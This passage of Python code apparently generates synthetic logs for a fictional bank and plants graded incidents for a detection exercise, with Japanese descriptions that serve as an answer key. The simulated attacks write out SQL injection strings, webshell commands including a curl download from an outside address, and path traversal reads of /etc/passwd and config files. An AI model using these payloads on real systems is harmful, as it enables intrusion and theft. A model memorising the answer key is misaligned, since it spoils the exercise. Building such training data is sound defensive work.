        """A call comes in: the popup, mostly a customer, perhaps a card to be stopped."""
        r = self.r
        self.cti(t, p.num, p.ip, "GET", f"/cti/call/C{t:%y%m%d%H%M%S}{r.randrange(10)}")
        if r.random() < 0.78:
            s = subj or self.cif()
            t += timedelta(seconds=r.uniform(8, 60))
            self.cti(t, p.num, p.ip, "GET", f"/cti/customer/{s}")
            if r.random() < 0.07:
                self.cti(
                    t + timedelta(seconds=r.uniform(40, 120)),
                    p.num,
                    p.ip,
                    "POST",
                    f"/cti/card/{s}/stop",
                    302,
                )
            if r.random() < 0.45:
                self.cti(
                    t + timedelta(seconds=r.uniform(90, 300)), p.num, p.ip, "POST", "/cti/memo", 302
                )

    def cc_day(self, p: Person, d: date) -> None:
        """A shift at the call centre."""
        r = self.r
        t = self.at(d, p.start - r.uniform(0.03, 0.2))
        if r.random() < 0.06:
            self.cti(t - timedelta(seconds=20), p.num, p.ip, "POST", "/cti/login", 401)
        self.cti(t, p.num, p.ip, "POST", "/cti/login", 302)
        mean = (
            (9 if p.role == "night" else 26 * (p.end - p.start) / 8)
            * (0.8 + 0.2 * p.rate)
            * (1 if d.weekday() > 4 else self.factor(d))
            * self.boost.get(("cti", d), 1)
        )
        for _ in range(self.count(mean, 9)):
            h = p.start + (p.end - p.start) * (
                r.random() ** 1.7 if p.role == "night" else r.random()
            )
            self.call(self.at(d, h), p)
        self.cti(self.at(d, p.end + r.uniform(0.02, 0.2)), p.num, p.ip, "POST", "/cti/logout", 302)

    def session(
        self,
        t: datetime,
        c: Customer,
        ip: str = "",
        ua: str = "",
        fails: int = 0,
        only: str = "",
        sid: str = "",
    ) -> str:
        """A customer in internet banking; says the session's id."""
        r = self.r
        if not ip:
            mob = r.random() < c.mobile
            ip, ua = (f"{c.cell}.{r.randrange(2, 250)}", c.mob) if mob else (c.ip, c.ua)
        ref = "" if ua.startswith("Setonami") else "https://ib.setonami-bank.example/ib/home"
        for _ in range(fails):
            self.ib(t, c.uid, ip, ua, "POST", "/ib/login", 401, 900)
            t += timedelta(seconds=r.uniform(8, 60))
        sid = sid or f"{r.getrandbits(96):024x}"
        tries = 1
        while self.ib(t, c.uid, ip, ua, "POST", "/ib/login", 302, 310, sid) >= 500:
            t, tries = t + timedelta(seconds=r.uniform(3, 200)), tries + 1
            if tries > 5 or r.random() < 0.25:
                return sid
        t += timedelta(seconds=1)
        self.ib(t, c.uid, ip, ua, "GET", "/ib/api/accounts", 200, 0, sid, ref)
        for a in c.accts:
            if r.random() < 0.7 or only:
                t += timedelta(seconds=r.uniform(3, 50))
                self.ib(
                    t, c.uid, ip, ua, "GET", f"/ib/api/accounts/{a}/statement", 200, 0, sid, ref
                )
        if not only and r.random() < 0.22:
            t += timedelta(seconds=r.uniform(20, 90))
            for _ in range(1 + (r.random() < 0.2)):
                self.ib(
                    t,
                    c.uid,
                    ip,
                    ua,
                    "GET",
                    f"/ib/api/payee/{r.choice(BRANCHES)[0]}-{3000000 + r.randrange(400000)}/name",
                    200 if r.random() < 0.9 else 404,
                    140,
                    sid,
                    ref,
                )
                t += timedelta(seconds=r.uniform(15, 60))
            self.ib(t, c.uid, ip, ua, "POST", "/ib/transfer/confirm", 200, 0, sid, ref)
            self.ib(
                t + timedelta(seconds=r.uniform(9, 40)),
                c.uid,
                ip,
                ua,
                "POST",
                "/ib/transfer/execute",
                302,
                0,
                sid,
                ref,
            )
        if not only and r.random() < 0.012:
            self.ib(
                t + timedelta(seconds=50),
                c.uid,
                ip,
                ua,
                "POST",
                "/ib/profile/contact",
                302,
                0,
                sid,
                ref,
            )
        if r.random() < 0.35:
            self.ib(
                t + timedelta(seconds=r.uniform(60, 200)),
                c.uid,
                ip,
                ua,
                "POST",
                "/ib/logout",
                302,
                0,
                sid,
                ref,
            )
        return sid

    def day(self, d: date) -> None:
        """Everything ordinary of one day."""
        r, work = self.r, self.workday(d)
        for p in self.people:
            if not self.present(p, d):
                continue
            if p.role in ("agent", "night", "sv"):
                if p.role != "sv":
                    self.cc_day(p, d)
            elif not self.skip.get((p.num, d)):
                self.crm_day(p, d)
        m = self.svc["monitor"]
        for k in range(48):
            self.crm(self.at(d, k / 2), m.ad, m.ip, m.ua, "HEAD", "/crm/health", size=180)
            self.loan(self.at(d, k / 2 + 0.02), None, m.ip, m.ua, "GET", "/loan/health")
            self.www(
                self.at(d, k / 2 + 0.05),
                "203.180.12.9",
                "UptimeWatch/1.6 (+https://uptimewatch.example/)",
                "/",
                200,
                14210,
            )
            for j in range(3):
                self.ib(
                    self.at(d, k / 2 + j / 6),
                    "",
                    "",
                    "ELB-HealthChecker/2.0",
                    "GET",
                    "/healthz",
                    200,
                    15,
                    direct=True,
                )
        a = self.svc["aml"]
        if work:
            for k in range(self.count(26, 8)):
                self.crm(
                    self.at(d, 6.0 + k * 0.004),
                    a.ad,
                    a.ip,
                    a.ua,
                    "GET",
                    f"/crm/customer/{self.cif()}/transactions",
                )
        bt = self.svc["batch"]
        for k in range(12):
            self.crm(
                self.at(d, 2.1 + k * 0.01), bt.ad, bt.ip, bt.ua, "POST", "/crm/api/sync", size=90
            )
        # internet banking
        f = (self.factor(d) if work else 0.95) * self.boost.get(("ib", d), 1)
        for c in r.choices(self.cust, [c.weight for c in self.cust], k=self.count(215 * f, 60)):
            h = r.triangular(6.5, 24, 12.5) if r.random() < 0.95 else r.uniform(0, 7)
            fails = 0 if r.random() < 0.93 else min(6, 1 + int(r.expovariate(1.1)))
            self.session(self.at(d, h), c, fails=fails)
            if fails > 3 and r.random() < 0.5:
                self.ib(self.at(d, h + 0.05), "", c.ip, c.ua, "POST", "/ib/password/reset", 302)
        for c in r.choices(self.cust, k=self.count(4)):
            for _ in range(r.randrange(1, 4)):
                self.ib(
                    self.at(d, r.uniform(8, 23)), c.uid, c.ip, c.ua, "POST", "/ib/login", 401, 900
                )
        # public site
        g = (1 if work else 0.85) * self.boost.get(("www", d), 1)
        for _ in range(self.count(150 * g, 40)):
            ip, ua = (
                (self.pub(), r.choice(UAS))
                if r.random() < 0.45
                else (
                    r.choice(CARRIER).format(r.randrange(256)) + f".{r.randrange(2, 250)}",
                    r.choice(MOB[3:]),
                )
            )
            t, ref = (
                self.at(d, r.triangular(6, 24, 13)),
                r.choice(["-", "https://www.google.com/", "https://search.yahoo.co.jp/"]),
            )
            for _ in range(1 + min(15, int(r.paretovariate(1.4)))):
                pg = r.choice(PAGES)
                self.www(t, ip, ua, pg, ref=ref)
                t, ref = (
                    t + timedelta(seconds=r.expovariate(1 / 40) + 1),
                    "https://www.setonami-bank.example" + pg,
                )
            if r.random() < 0.04:
                no = self.resno(d)
                self.www(
                    t,
                    ip,
                    ua,
                    "/reserve/",
                    302,
                    method="POST",
                    ref="https://www.setonami-bank.example/reserve/",
                )
                self.www(
                    t + timedelta(seconds=1),
                    ip,
                    ua,
                    f"/reserve/view?no={no}",
                    size=3900,
                    ref="https://www.setonami-bank.example/reserve/",
                )
                if r.random() < 0.5:
                    self.www(
                        t + timedelta(hours=r.uniform(0.5, 6)),
                        ip,
                        ua,
                        f"/reserve/view?no={no}",
                        size=3900,
                    )
            if r.random() < 0.06:
                self.www(
                    t,
                    ip,
                    ua,
                    f"/loan/simulator/result.php?plan={r.randrange(1, 8)}&amount={r.randrange(5, 50) * 100}&years={r.choice([10, 20, 35])}",
                    size=int(r.gauss(6100, 300)),
                )
        for net, ua, k in BOTS:
            for _ in range(self.count(k, 3)):
                pg = r.choice(PAGES)
                self.www(
                    self.at(d, r.uniform(0, 24)),
                    net.format(r.randrange(1, 30)),
                    ua,
                    pg
                    if r.random() < 0.93
                    else f"/news/20{r.randrange(18, 25)}/x{r.randrange(99)}.html",
                    200 if r.random() < 0.93 else 404,
                )
        for _ in range(self.count(5, 1.5)):
            ip, t = self.foreign(), self.at(d, r.uniform(0, 24))
            for pth in r.sample(NOISE, r.randrange(1, 7)):
                self.www(
                    t,
                    ip,
                    r.choice(
                        [
                            "Mozilla/5.0",
                            "python-requests/2.31.0",
                            "Go-http-client/1.1",
                            "-",
                            "zgrab/0.x",
                        ]
                    ),
                    pth,
                    r.choice([404, 404, 404, 403, 400]),
                    host=r.choice(["www.setonami-bank.example", "saiyo.setonami-bank.example"]),
                )
                t += timedelta(seconds=r.uniform(0.2, 4))
        for _ in range(self.count(2)):
            t, (raw, st) = (
                self.at(d, r.uniform(0, 24)),
                r.choice([("-", 408), ("\\x16\\x03\\x01", 400), ("\\x16\\x03\\x01\\x02", 400)]),
            )
            self.out(
                "www",
                "www/access_log-{:%Y%m%d}.gz",
                (t - timedelta(hours=3, minutes=10)).date(),
                t,
                f'www.setonami-bank.example:443 {self.foreign()} - - [{t:%d/%b/%Y:%H:%M:%S} +0900] "{raw}" {st} 0 "-" "-"',
            )
        for _ in range(self.count(14 * g)):
            self.www(
                self.at(d, r.uniform(8, 24)),
                self.pub(),
                r.choice(UAS),
                r.choice(["/", "/message.html", "/entry/", "/career.html"]),
                host="saiyo.setonami-bank.example",
            )
        if d.weekday() == 0:
            for k in range(60):
                self.www(
                    self.at(d, 2 + k * 0.003),
                    "61.206.44.18",
                    "Mozilla/5.0 (compatible; PCI-ASV-Scan/7.2; scheduled weekly; soc@setonami-bank.example)",
                    NOISE[k % len(NOISE)],
                    404,
                )
        # reception in the branches
        if work:
            for i, (c, _, w) in enumerate(BRANCHES):
                if c in self.closed.get(d, set()):
                    continue
                net = self.ip_of(Person("x", "", "", c, "", f"10.20.{i + 1}.200", "", 1), d)
                tab = "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
                for k in range(19):
                    self.counter(
                        self.at(d, 8.5 + k / 2 + i * 0.01),
                        c,
                        None,
                        net,
                        tab,
                        "GET",
                        "/uketsuke/api/queue",
                    )
                for _ in range(self.count(16 * w * self.factor(d), 10)):
                    self.counter(
                        self.at(d, r.triangular(9, 15, 10.7)),
                        c,
                        None,
                        net,
                        tab,
                        "POST",
                        "/uketsuke/ticket",
                        201,
                    )

    def resno(self, d: date) -> str:
        """A reservation's number: they are given out in order (that is the site's weakness)."""
        self.res = getattr(self, "res", 40000 + self.seed % 700) + self.r.randrange(1, 4)
        return f"R{self.res}"

    # ---- planning helpers ----------------------------------------------------------------------------------------------------
    def inc(
        self, grade: str, family: str, actors: list[str], what: str, how: str, woken: bool = True
    ) -> Note:
        """A new incident."""
        note = Note(what, how, actors, grade, family, woken)
        self.incidents.append(note)
        return note

    def ann(self, what: str, why: str, actors: list[str]) -> Note:
        """A new annoyance."""
        note = Note(what, why, actors)
        self.annoy.append(note)
        return note

    def play(self, note: Note | None, d: date, fn: Callable[[date], None]) -> None:
        """Has this happen on that day."""
        if d in self.plan:
            self.plan[d].append((note, fn))

    def when(self, work: bool = True, first: int = 15, last: int = 1) -> date:
        """A day for something sudden: mostly in the second half, never a day when branches were closed by weather."""
        for tries in range(999):
            lo = first if self.r.random() < 0.2 else max(first, self.n // 2)
            d = self.days[self.r.randrange(lo, self.n - last + 1)]
            if (
                (not work or self.workday(d))
                and d not in self.closed
                and (d not in self.busydays or tries > 60)
            ):
                break
        self.busydays.add(d)
        return d

    def span(self, lo: int, hi: int) -> list[date]:
        """Days for something slow; longer in a world of weeks."""
        r = self.r
        length = r.randint(lo, hi)
        if self.n > 50:
            length = min(29, int(length * 1.5))
        length = min(length, self.n - 16)
        top = self.n - 1 - length
        for _ in range(40):
            start = max(r.randint(15, top), r.randint(15, top))
            if sum(self.workday(d) for d in self.days[start : start + length + 1]) >= 0.55 * length:
                break
        return [d for d in self.days[start : start + length + 1] if d not in self.closed]

    def works(self, ds: list[date], p: Person | None = None) -> list[date]:
        """The working days among them; the person does not take them off."""
        ds = [
            d
            for d in ds
            if (self.workday(d) if p is None or p.branch != "CC" else d.weekday() in p.days)
        ]
        if p is not None:
            p.off -= set(ds)
        return ds

    def branch_staff(self, roles: tuple[str, ...]) -> Person:
        """Somebody in a branch who comes every day and whose branch moves nowhere."""
        return self.take(
            roles,
            lambda p: (
                p.branch in NAME_OF
                and p.branch not in self.subnet_from
                and len(p.days) == 5
                and not p.helps
            ),
        )

    # ---- incidents: easy -----------------------------------------------------------------------------------------------------
    def i_bulk(self) -> None:
        p = self.branch_staff(("teller",))
        d, k = self.when(), self.r.randrange(120, 190)
        self.works([d], p)
        pool = self.sorted_pool[p.branch]
        at = self.r.randrange(0, len(pool) - k)
        note = self.inc(
            "easy",
            "amount",
            [p.ad],
            f"{p.name}（{p.dept}）が閉店後に自店の顧客 {k} 人を番号順に続けて開いた",
            "ふだんの一日の十倍、数秒おき、顧客番号の昇順、検索もメモもない",
        )

        def fn(d: date) -> None:
            t = self.at(d, 15.7)
            for s in pool[at : at + k]:
                self.look(t, p, p.ip, s, search=0, acc=0.1, tra=0.3, memo=0)
                t += timedelta(seconds=self.r.uniform(12, 60))

        self.play(note, d, fn)

    def i_spray(self) -> None:
        r = self.r
        d, ips = self.when(False), [self.foreign() for _ in range(r.randrange(12, 20))]
        ua = CHROME.format(131)
        targets = r.sample(self.cust, r.randrange(230, 340))
        hits = [targets[k] for k in sorted(r.sample(range(40, len(targets)), r.randrange(2, 5)))]
        note = self.inc(
            "easy",
            "login",
            ips + ["ib"] + [c.uid for c in hits],
            f"インターネットバンキングに {len(ips)} の番地から {len(targets)} 契約のパスワードが試され、{len(hits)} 契約で入られて明細を見られた",
            "夜中の一時間余りに失敗がふだんの何十倍、同じブラウザ、一契約一、二回、成功のあとは口座と明細",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(1, 3.5))
            for c in targets:
                ip = r.choice(ips)
                for _ in range(1 + (r.random() < 0.2)):
                    self.ib(t, c.uid, ip, ua, "POST", "/ib/login", 401, 900)
                    t += timedelta(seconds=r.uniform(4, 24))
                if c in hits:
                    self.session(t, c, ip, ua, only="read")

        self.play(note, d, fn)

    def i_leaver_export(self) -> None:
        r, p = self.r, self.branch_staff(("officer",))
        d = self.when(True, 15, 6)
        self.works([d], p)
        p.left = d + timedelta(r.randrange(4, 12))
        note = self.inc(
            "easy",
            "export",
            [p.ad],
            f"退職予定の {p.name}（{p.dept}）が自店の顧客一覧を夕方に何度も書き出した",
            "書き出しの権限がない課の人、過去に書き出しが一度もない、一本が数メガバイト、退職日が近い",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(18.1, 18.9))
            for kind in r.sample(
                ["deposits", "loans", "contacts", "nisa", "foreign", "corporate", "heirs"],
                r.randrange(5, 8),
            ):
                self.crm(
                    t,
                    p.ad,
                    p.ip,
                    p.ua,
                    "GET",
                    f"/crm/export/branch-{p.branch}-{kind}.csv",
                    size=int(r.lognormvariate(15, 0.4)),
                )
                t += timedelta(seconds=r.uniform(40, 200))

        self.play(note, d, fn)

    def i_sqli(self) -> None:
        r, ip, d = self.r, self.foreign(), self.when(False)
        note = self.inc(
            "easy",
            "web",
            [ip],
            "公開サイトの返済シミュレーションに SQL が差し込まれ、終わりごろは大きな応答が返った",
            "UNION SELECT の列が増えていき、500 のあと 200、応答がふだんの 6 KB の何十倍",
        )

        def fn(d: date) -> None:
            t, k = self.at(d, r.uniform(2, 22)), r.randrange(70, 110)
            for j in range(k):
                cols = (
                    ",".join(["NULL"] * (j // 8 + 1)) if j < k - 14 else "NULL,login,mail,NULL,NULL"
                )
                tail = f"+FROM+members+LIMIT+500+OFFSET+{500 * (j - k + 14)}" if j >= k - 14 else ""
                won = j >= k - 14
                self.www(
                    t,
                    ip,
                    CHROME.format(120),
                    f"/loan/simulator/result.php?plan=3%27+UNION+SELECT+{cols}{tail}--+-&amount=1000&years=10",
                    200 if won or r.random() < 0.3 else 500,
                    r.randrange(90000, 210000) if won else 0,
                )
                t += timedelta(seconds=r.uniform(1, 9))

        self.play(note, d, fn)

    def i_ib_errors(self) -> None:
        r, d = self.r, self.when()
        h = r.uniform(9.5, 13)
        note = self.inc(
            "easy",
            "errors",
            ["ib"],
            "インターネットバンキングが予告なく二時間ほど 502 を返した",
            "昼間にほとんどの要求が 502、ふだんは千に二つもない",
        )
        self.fail.append(
            ("ib", "/", self.at(d, h), self.at(d, h + r.uniform(1.5, 2.8)), 0.85, 502, note)
        )

    def i_crm_silent(self) -> None:
        r, d = self.r, self.when()
        h = r.uniform(9.8, 11.5)
        a, b = self.at(d, h), self.at(d, h + r.uniform(3.5, 5))
        note = self.inc(
            "easy",
            "silence",
            ["crm"],
            f"顧客情報システムの記録が営業時間中に {a:%H:%M} から {b:%H:%M} まで一行もない",
            "二台とも同時に止まり、融資システムと受付端末は動いている",
        )
        note.days.add(d)
        note.sites.add("crm")
        self.mute.append(("crm", "", a, b))

    def i_after_leaving(self) -> None:
        r, p = self.r, self.branch_staff(("officer", "deputy"))
        d = self.when(True, 18)
        p.left = d - timedelta(r.randrange(5, 12))
        ip = f"10.90.0.{r.randrange(20, 200)}"
        note = self.inc(
            "easy",
            "other",
            [p.ad],
            f"{p.left:%m月%d日}に退職した {p.name} の番号で夜に VPN から顧客を何十人も見た",
            "人事名簿の退職日のあと、夜、この人が使ったことのない VPN の番地",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(21, 22))
            self.open_crm(t, p, ip, CHROME.format(138))
            for s in r.sample(p.port, r.randrange(24, 40)):
                t = self.look(
                    t + timedelta(seconds=r.uniform(10, 60)),
                    p,
                    ip,
                    s,
                    memo=0,
                    ua=CHROME.format(138),
                )

        self.play(note, d, fn)

    def i_webshell(self) -> None:
        r, ips, d = self.r, [self.foreign(), self.foreign()], self.when(False)
        f = f"img_{r.randrange(1000, 9999)}.php"
        note = self.inc(
            "easy",
            "web",
            ips,
            "公開サイトの応募フォームに PHP が置かれ、それを通して命令が実行された",
            "upload への POST が 200、その直後から画像の置き場の .php?c= に 200、二つの番地",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(0, 22))
            self.www(
                t, ips[0], "python-requests/2.31.0", "/campaign/upload.php", 200, 88, method="POST"
            )
            for c in [
                "id",
                "uname+-a",
                "ls+-la+/var/www",
                "cat+/etc/passwd",
                "cat+../config/db.php",
                "whoami",
                "ps+aux",
                "curl+-O+http://45.134.9.9/x",
                "crontab+-l",
                "ls+/backup",
            ]:
                t += timedelta(seconds=r.uniform(5, 200))
                self.www(
                    t,
                    r.choice(ips),
                    "python-requests/2.31.0",
                    f"/campaign/files/{f}?c={c}",
                    200,
                    r.randrange(40, 4000),
                )

        self.play(note, d, fn)

    def i_evening_run(self) -> None:
        r, p = self.r, self.branch_staff(("teller", "officer"))
        ds = self.works(self.span(8, 12), p)
        pool = self.sorted_pool[p.branch]
        pos = [r.randrange(0, len(pool) - 700)]
        note = self.inc(
            "easy",
            "weeks",
            [p.ad],
            f"{p.name}（{p.dept}）が毎夕、自店の顧客を番号順に三十人余りずつ、{len(ds)} 日かけて開いていった",
            "毎日同じ時刻、前の日の続きの番号から昇順、検索なし、一日の人数が三倍",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(17, 17.4))
            for _ in range(r.randrange(28, 44)):
                self.look(t, p, p.ip, pool[pos[0]], search=0, acc=0, tra=0.2, memo=0)
                pos[0] += 1
                t += timedelta(seconds=r.uniform(15, 70))

        for d in ds:
            self.play(note, d, fn)

    # ---- incidents: medium ---------------------------------------------------------------------------------------------------
    def i_lent(self) -> None:
        r, a = self.r, self.branch_staff(("deputy", "officer"))
        b = self.take(("teller", "officer"), lambda q: q.branch == a.branch and len(q.days) == 5)
        d = self.when()
        d2 = next((x for x in self.days if x > d and self.workday(x) and x not in self.closed), d)
        self.works([d, d2], b)
        a.off |= {d, d2}
        note = self.inc(
            "medium",
            "session",
            [a.ad, b.ad, b.ip],
            f"休みの {a.name} の番号を、同じ店の {b.name} が自席の端末から使った",
            "その番地ではもう一人が同じ時刻に働いており、番号の本人の端末は二日とも一度も現れない",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(10, 14))
            self.open_crm(t, a, b.ip, b.ua)
            for _ in range(r.randrange(9, 14)):
                t = self.look(
                    t + timedelta(seconds=r.uniform(40, 500)),
                    a,
                    b.ip,
                    self.cif(a.branch),
                    tra=0.6,
                    ua=b.ua,
                )
                self.look(t + timedelta(seconds=r.uniform(5, 30)), b, b.ip, self.cif(b.branch))

        for x in sorted({d, d2}):
            self.play(note, x, fn)

    def i_no_call(self) -> None:
        r, p = self.r, self.take(("agent",), lambda q: len(q.days) >= 4)
        ds = self.works(self.span(12, 17), p)
        bs = r.sample([c for c, _, _ in BRANCHES], 2)
        note = self.inc(
            "medium",
            "weeks",
            [p.num],
            f"コールセンターの {p.name} が電話のないときに毎日七〜十二人の顧客を開いた（{NAME_OF[bs[0]]}と{NAME_OF[bs[1]]}ばかり）",
            "顧客の画面の前に着信の行がなく、メモもなく、店番が二つだけ、勤務の終わりに集まる",
        )

        def fn(d: date) -> None:
            for _ in range(r.randrange(7, 13)):
                self.cti(
                    self.at(d, p.end - r.uniform(0.05, 1.2)),
                    p.num,
                    p.ip,
                    "GET",
                    f"/cti/customer/{r.choice(self.pool[r.choice(bs)])}",
                )

        for d in ds:
            self.play(note, d, fn)

    def i_ex(self) -> None:
        r, p = self.r, self.branch_staff(("teller",))
        s = r.choice(self.pool[self.other(p.branch)][500:])
        ds = [d for d in self.works(self.span(11, 17), p) if r.random() < 0.85]
        note = self.inc(
            "medium",
            "weeks",
            [p.ad],
            f"{p.name}（{p.dept}）がほかの店の顧客 {s} の取引を二週間あまりくり返し見た",
            "同じ一人、店番が違う、取引明細ばかり、メモなし、ほかに開く行員がいない",
        )

        def fn(d: date) -> None:
            for _ in range(r.choice([1, 2, 2, 3])):
                self.look(
                    self.at(d, r.choice([8.75, 12.3, 16.8]) + r.uniform(0, 0.4)),
                    p,
                    p.ip,
                    s,
                    search=0,
                    acc=0.3,
                    tra=1,
                    memo=0,
                )

        for d in ds:
            self.play(note, d, fn)

    def i_vip(self) -> None:
        r, s = self.r, self.r.choice(self.vips)
        d = self.when()
        ps = [self.branch_staff(("teller", "officer")) for _ in range(3)]
        for p in ps:
            self.works([d], p)
        note = self.inc(
            "medium",
            "other",
            [p.ad for p in ps],
            f"注意顧客 {s} が報道された日に、関わりのない店の三人がその口座を見た",
            "注意顧客の一覧にあり、店番の違う三人が同じ日に、検索から取引まで見てメモを残さない",
        )

        def fn(d: date) -> None:
            for p in ps:
                self.look(self.at(d, r.uniform(9, 17)), p, p.ip, s, search=1, acc=1, tra=1, memo=0)

        self.play(note, d, fn)

    def i_ato(self) -> None:
        r, c, ip, d = self.r, self.takec(), self.pub(), self.when(False)
        note = self.inc(
            "medium",
            "login",
            [c.uid, ip],
            "一人の顧客の契約に深夜、知らない番地から一度で入り、連絡先を変え、限度額を上げ、続けて送金した",
            "初めての番地とブラウザ、午前二時台、連絡先・限度額・送金三回が十数分に並ぶ",
        )

        def fn(d: date) -> None:
            ua = CHROME.format(133)
            t = self.at(d, r.uniform(2, 3))
            sid = self.session(t, c, ip, ua, only="read")
            t += timedelta(seconds=150)
            for path in ["/ib/profile/contact", "/ib/profile/limit"] + [
                "/ib/transfer/confirm",
                "/ib/transfer/execute",
            ] * 3:
                self.ib(
                    t,
                    c.uid,
                    ip,
                    ua,
                    "POST",
                    path,
                    200 if "confirm" in path else 302,
                    0,
                    sid,
                    "https://ib.setonami-bank.example/ib/home",
                )
                t += timedelta(seconds=r.uniform(30, 160))

        self.play(note, d, fn)

    def i_idor(self) -> None:
        r, c, d = self.r, self.takec(), self.when(False)
        at, k = r.randrange(0, len(self.acct_owner) - 90), r.randrange(45, 80)
        note = self.inc(
            "medium",
            "outsider",
            [c.uid, c.ip],
            f"サインインした顧客が番号を変えて他人の口座の明細 {k} 件を読めた",
            "一つのセッションが自分のでない口座の明細を昇順に開き、ほとんど 200",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(19, 22.5))
            sid = self.session(t, c, c.ip, c.ua, only="read")
            for a in self.acct_owner[at : at + k]:
                t += timedelta(seconds=r.uniform(6, 25))
                self.ib(
                    t,
                    c.uid,
                    c.ip,
                    c.ua,
                    "GET",
                    f"/ib/api/accounts/{a}/statement",
                    200 if r.random() < 0.93 else 404,
                    0,
                    sid,
                )

        self.play(note, d, fn)

    def i_guess(self) -> None:
        r, m = self.r, self.branch_staff(("manager",))
        src = self.take(("teller", "part", "officer"), lambda q: q.branch == m.branch)
        d = self.when()
        self.works([d], m)
        self.works([d], src)
        note = self.inc(
            "medium",
            "login",
            [m.num, src.ip, src.num],
            f"融資システムで {m.name} のパスワードが昼休みに同じ店の端末から試され、当たって信用情報を見られた",
            "失敗が三十回近く、そのあと成功、番地は支店長の端末でない、続けて信用情報ばかり",
        )

        def fn(d: date) -> None:
            t = self.at(d, 12.05)
            for _ in range(r.randrange(22, 34)):
                self.loan(t, m.num, src.ip, src.ua, "POST", "/loan/login", 401)
                t += timedelta(seconds=r.uniform(9, 60))
            sid = f"{r.getrandbits(80):020x}"
            self.loan(t, m.num, src.ip, src.ua, "POST", "/loan/login", 302, sid=sid)
            for no in r.sample(self.cases[m.branch], 9):
                t += timedelta(seconds=r.uniform(10, 60))
                self.loan(t, m.num, src.ip, src.ua, "GET", f"/loan/credit/{no}", sid=sid)

        self.play(note, d, fn)

    def i_sunday(self) -> None:
        r, p = self.r, self.branch_staff(("officer",))
        d = r.choice([x for x in self.days[17:] if x.weekday() == 6] or [self.days[-1]])
        ip = f"10.90.0.{r.randrange(20, 200)}"
        note = self.inc(
            "medium",
            "hours",
            [p.ad, p.num],
            f"{p.name}（{p.dept}）が日曜の深夜に VPN から顧客と融資案件を見た",
            "日曜の 22 時過ぎ、支店の人が使わない VPN、ふだんの受け持ちでない顧客が多い",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(21.8, 22.6))
            self.open_crm(t, p, ip)
            for _ in range(r.randrange(9, 16)):
                t = self.look(
                    t + timedelta(seconds=r.uniform(20, 150)),
                    p,
                    ip,
                    self.cif(p.branch),
                    tra=0.6,
                    memo=0,
                )
            sid = f"{r.getrandbits(80):020x}"
            self.loan(t, p.num, ip, p.ua, "POST", "/loan/login", 302, sid=sid)
            for no in r.sample(self.cases[p.branch], 6):
                t += timedelta(seconds=r.uniform(20, 90))
                self.loan(t, p.num, ip, p.ua, "GET", f"/loan/case/{no}", sid=sid)

        self.play(note, d, fn)

    def i_counter_silent(self) -> None:
        r = self.r
        c = r.choice(
            [
                b
                for b, _, _ in BRANCHES
                if b not in self.used and not any(b in s for s in self.closed.values())
            ]
        )
        self.used.add(c)
        ds = self.works(self.days[max(15, self.n // 2) :])
        k = r.randrange(0, len(ds) - 3)
        run = ds[k : k + r.randrange(2, 4)]
        note = self.inc(
            "medium",
            "silence",
            [f"counter-{c}"],
            f"{NAME_OF[c]}の受付サーバーの記録が {len(run)} 営業日届かない",
            "店舗一覧にある店で、同じ店の行員は顧客情報システムでふだんどおり働いている",
        )
        note.days |= set(run)
        note.sites.add(f"counter-{c}")
        self.mute.append((f"counter-{c}", "", self.at(run[0], 0), self.at(run[-1], 24)))

    def i_reserve(self) -> None:
        r, d = self.r, self.when(False)
        ip = self.pub()
        k = r.randrange(140, 230)
        note = self.inc(
            "medium",
            "outsider",
            [ip],
            f"来店予約の確認ページが番号順に {k} 件たどられ、他人の予約が見えた",
            "一つの番地が R の番号を一つずつ下げて開き、大半が 200、参照元なし、ほかのページを見ない",
        )

        def fn(d: date) -> None:
            t, no = self.at(d, r.uniform(9, 20)), self.res - 30
            for j in range(k):
                ok = r.random() < 0.5
                self.www(
                    t,
                    ip,
                    CHROME.format(138),
                    f"/reserve/view?no=R{no - j}",
                    200 if ok else 404,
                    3900 if ok else 0,
                )
                t += timedelta(seconds=r.uniform(5, 22))

        self.play(note, d, fn)

    def i_svc(self) -> None:
        r, p, a = self.r, self.take(("it",)), self.svc["aml"]
        d = self.when()
        self.works([d], p)
        note = self.inc(
            "medium",
            "session",
            [a.ad, p.ip, p.ad],
            "機械の番号 svc_aml が、システム部の端末のブラウザから人の手で使われた",
            "番地もブラウザも機械のものでない、午後、検索の画面を使い一人ずつ見る",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(13, 16))
            self.open_crm(t, a, p.ip, p.ua)
            for _ in range(r.randrange(12, 22)):
                t = self.look(
                    t + timedelta(seconds=r.uniform(15, 120)),
                    a,
                    p.ip,
                    self.cif(),
                    search=0.9,
                    memo=0,
                    ua=p.ua,
                )

        self.play(note, d, fn)

    def i_traversal(self) -> None:
        r, ip, d = self.r, self.foreign(), self.when(False)
        note = self.inc(
            "medium",
            "web",
            [ip],
            "公開サイトの資料配布の口から設定ファイルが読み出された",
            "404 に混じって download.php?f=../ の三本だけ 200 で、PDF ではありえない小ささ",
        )

        def fn(d: date) -> None:
            t = self.at(d, r.uniform(0, 23))
            for pth, st, sz in [
                ("/download.php?f=../../etc/passwd", 404, 196),
                ("/ir/download.php?f=report.pdf", 200, 412331),
                ("/ir/download.php?f=..%2fetc%2fpasswd", 404, 196),
                ("/ir/download.php?f=..%2f..%2f..%2f..%2fetc%2fpasswd", 200, 2107),
                ("/ir/download.php?f=..%2f..%2fconf%2fdb.ini", 200, 611),
                ("/ir/download.php?f=..%2f..%2fconf%2fmail.ini", 200, 389),
            ]:
                self.www(t, ip, CHROME.format(122), pth, st, sz)
                t += timedelta(seconds=r.uniform(3, 30))

        self.play(note, d, fn)

    def i_hijack(self) -> None:
        r, d, ip = self.r, self.when(False), self.foreign()
        while not (c := self.takec()).mobile < 0.6:
            pass
        note = self.inc(
            "medium",
            "session",
            [c.uid, ip],
            "顧客のセッションが途中から別の番地とブラウザで使われ、明細と送金の画面に入られた",
            "同じセッション番号が数分のうちに二つの番地、二つのブラウザにあり、あとの方はサインインをしていない",
        )

